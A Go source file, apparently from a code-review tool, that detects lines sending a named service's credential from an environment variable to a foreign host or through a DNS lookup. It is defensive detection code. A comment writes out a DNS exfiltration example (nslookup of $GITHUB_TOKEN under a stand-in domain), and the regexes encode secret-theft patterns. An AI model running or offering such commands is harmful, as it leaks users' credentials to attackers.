package review

import (
	"strings"

	"github.com/skillstudio/skillstudio/internal/lazyre"
)

// One environment variable that holds a well-known service's credential,
// read and sent on the same line (node -e, python -c, ruby -e, deno eval,
// a PowerShell or curl one-liner) to a URL written out that is not that
// service's. A variable whose service cannot be told from its name
// (API_TOKEN, MY_SECRET) is not judged: sending it anywhere may be its
// use. Only one line is read: in a whole script the token is usually sent
// to its API and other lines talk to other hosts.
var envSecretRef = lazyre.New(`(?:process\.env\.|process\.env\[\s*["']|os\.environ\[\s*["']|os\.environ\.get\(\s*["']|os\.getenv\(\s*["']|getenv\(\s*["']|ENV\[\s*["']|ENV\.fetch\(\s*["']|Deno\.env\.get\(\s*["']|\$env:|\$\{?)([A-Z][A-Z0-9]*_[A-Z0-9_]*(?:TOKEN|KEY|SECRET|PAT|PASSWORD)[A-Z0-9_]*)`)

// envSecretWords: a line must hold one for envSecretRef to match.
var envSecretWords = []string{"TOKEN", "KEY", "SECRET", "_PAT", "PASSWORD"}

// secretVarOwners maps the first word of a variable's name to the domains
// its credential is for. A host one of whose labels is the word itself
// (github.corp.example for GITHUB_TOKEN: an Enterprise server) counts too.
var secretVarOwners = map[string][]string{
	"GITHUB": {"github.com", "githubusercontent.com", "ghcr.io", "githubcopilot.com"}, "GH": {"github.com", "githubusercontent.com", "ghcr.io", "githubcopilot.com"},
	"GITLAB": {"gitlab.com"}, "AWS": {"amazonaws.com", "aws.amazon.com"},
	"OPENAI": {"openai.com"}, "ANTHROPIC": {"anthropic.com"}, "CLAUDE": {"anthropic.com"},
	"NPM": {"npmjs.org", "npmjs.com"}, "HF": {"huggingface.co", "hf.co"}, "HUGGINGFACE": {"huggingface.co", "hf.co"}, "HUGGING": {"huggingface.co", "hf.co"},
	"SLACK": {"slack.com"}, "STRIPE": {"stripe.com"}, "GOOGLE": {"googleapis.com", "google.com"}, "GEMINI": {"googleapis.com", "google.com"},
	"AZURE": {"azure.com", "windows.net", "microsoft.com", "azure.net"}, "CLOUDFLARE": {"cloudflare.com"}, "CF": {"cloudflare.com"},
	"DOCKER": {"docker.io", "docker.com"}, "PYPI": {"pypi.org"}, "TWINE": {"pypi.org"}, "VERCEL": {"vercel.com"},
	"NETLIFY": {"netlify.com"}, "HEROKU": {"heroku.com"}, "SENTRY": {"sentry.io"}, "LINEAR": {"linear.app"},
	"NOTION": {"notion.com", "notion.so"}, "DISCORD": {"discord.com", "discordapp.com"}, "TELEGRAM": {"telegram.org"},
	"TWILIO": {"twilio.com"}, "SENDGRID": {"sendgrid.com"}, "MISTRAL": {"mistral.ai"}, "GROQ": {"groq.com"},
	"OPENROUTER": {"openrouter.ai"}, "REPLICATE": {"replicate.com"}, "COHERE": {"cohere.com", "cohere.ai"},
	"PERPLEXITY": {"perplexity.ai"}, "DEEPSEEK": {"deepseek.com"}, "JIRA": {"atlassian.net", "atlassian.com"},
	"ATLASSIAN": {"atlassian.net", "atlassian.com"}, "CONFLUENCE": {"atlassian.net", "atlassian.com"},
	"SHOPIFY": {"shopify.com", "myshopify.com"}, "FIGMA": {"figma.com"}, "SUPABASE": {"supabase.co", "supabase.com"},
	"DIGITALOCEAN": {"digitalocean.com"}, "DATADOG": {"datadoghq.com", "datadoghq.eu"}, "ELEVENLABS": {"elevenlabs.io"},
}

// secretVarSentIn returns the variable a line sends to a host not its
// service's, and that host, or "".
func secretVarSentIn(line string) (name, host string) {
	if !containsAny(line, envSecretWords) {
		return "", ""
	}
	if !strings.Contains(line, "://") {
		return secretVarInDNSName(line)
	}
	ms := envSecretRef.FindAllStringSubmatch(line, -1)
	if len(ms) == 0 || !netSink.MatchString(line) && !strings.Contains(strings.ToLower(line), "net::http") {
		return "", ""
	}
	for _, m := range ms {
		word, _, _ := strings.Cut(m[1], "_")
		owners, ok := secretVarOwners[word]
		if !ok {
			continue
		}
		if h := foreignHost(line, strings.ToLower(word), owners); h != "" {
			return m[1], h
		}
	}
	return "", ""
}

// foreignHost returns the first host written in line that is neither one
// of domains (or a subdomain), nor has word as a label, nor loopback; ""
// when every written host is one of those or is built at run time.
func foreignHost(line, word string, domains []string) string {
	for _, m := range urlAuthority.FindAllStringSubmatch(line, -1) {
		host := stripPort(m[1][strings.LastIndexByte(m[1], '@')+1:])
		host = strings.ToLower(strings.TrimSuffix(host, "."))
		if host == "" || strings.ContainsAny(host, "$`{}<>%") || isLoopback(host) {
			continue
		}
		own := false
		for _, d := range domains {
			if host == d || strings.HasSuffix(host, "."+d) {
				own = true
			}
		}
		for _, label := range strings.Split(host, ".") {
			if label == word {
				own = true
			}
		}
		if !own {
			return host
		}
	}
	return ""
}

func sendsSecretVar(cmd string) bool {
	name, _ := secretVarSentIn(cmd)
	return name != ""
}

// dnsSecretName: a DNS lookup (nslookup, dig, host, drill, ping, getent)
// of a name that starts with a variable and ends in a domain written out:
// nslookup "$GITHUB_TOKEN.q.example" sends the value to whoever answers
// for q.example, with no URL on the line.
var dnsSecretName = lazyre.New(`(?i)(?:^|[\s;&|(])(?:nslookup|dig|host|drill|ping|getent\s+a?hosts)\s+[^;&|\n]*?\$\{?([A-Z][A-Z0-9_]*)\}?[^\s"'.]*\.((?:[a-z0-9-]+\.)+[a-z]{2,})`)

// secretVarInDNSName returns a named service's credential a DNS lookup
// puts in the name it asks for, and the domain asked, or "".
func secretVarInDNSName(line string) (name, host string) {
	for _, m := range dnsSecretName.FindAllStringSubmatch(line, -1) {
		if !envSecretRef.MatchString("$" + m[1]) {
			continue
		}
		word, _, _ := strings.Cut(m[1], "_")
		owners, ok := secretVarOwners[word]
		if !ok {
			continue
		}
		if h := foreignHost("https://"+strings.ToLower(m[2]), strings.ToLower(word), owners); h != "" {
			return m[1], h
		}
	}
	return "", ""
}
